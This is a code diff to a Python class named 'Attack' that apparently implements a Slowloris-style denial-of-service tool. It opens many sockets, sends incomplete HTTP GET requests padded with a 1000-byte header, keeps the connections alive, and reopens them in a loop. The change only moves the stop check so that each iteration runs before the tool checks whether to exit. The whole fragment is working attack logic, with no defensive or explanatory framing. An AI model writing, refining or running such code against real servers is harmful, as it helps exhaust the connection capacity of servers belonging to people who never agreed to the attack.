@@ -88,7 +88,7 @@ class Attack:
                     break
             head = b"GET / HTTP/1.1\r\nhost: x\r\nx-pad: " + b"a" * 1000
             i = 0
-            while not self.stop.wait(5):
+            while True:
                 alive = []
                 for s in socks:
                     try:
@@ -98,6 +98,8 @@ class Attack:
                         s.close()
                 socks = alive or [self.connect() for _ in range(n)]
                 i += 1
+                if self.stop.wait(5):
+                    break
             for s in socks:
                 s.close()
         self.spawn(run)
